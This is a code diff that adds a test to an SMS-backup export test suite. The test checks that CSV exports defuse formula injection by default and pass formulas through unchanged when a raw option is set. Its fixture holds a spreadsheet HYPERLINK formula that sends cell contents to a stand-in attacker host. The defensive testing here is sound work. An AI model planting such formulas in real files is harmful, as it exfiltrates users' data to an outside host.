@@ -53,6 +53,18 @@ describe('exports', () => {
     expect(text).not.toContain(BOB);
   });
 
+  it("neutralises formula-like CSV cells by default and keeps them with csvRaw", async () => {
+    const attack = '=HYPERLINK("https://evil.example/?"&A1,"open me")';
+    const server = await startServer({ files: [writeBackup([{ address: '+15550000009', date: Date.UTC(2024, 0, 4), body: attack, name: '@Mallory' }])] });
+    const client = await ownerClient(server);
+    const safe = await (await exportOne(client, { format: 'csv', kinds: ['sms'] })).text();
+    expect(safe).toContain(`"'${attack.replaceAll('"', '""')}"`);
+    expect(safe).toContain("'@Mallory (+15550000009)");
+    const raw = await (await exportOne(client, { format: 'csv', kinds: ['sms'], csvRaw: true })).text();
+    expect(raw).toContain(`"${attack.replaceAll('"', '""')}"`);
+    expect(raw).not.toContain("'@Mallory");
+  });
+
   it('zips an export that writes several files, and answers 410 once it was deleted from the server', async () => {
     const { client, aliceId, dir } = await setup();
     const res = await exportOne(client, { format: 'html', conversationId: aliceId });
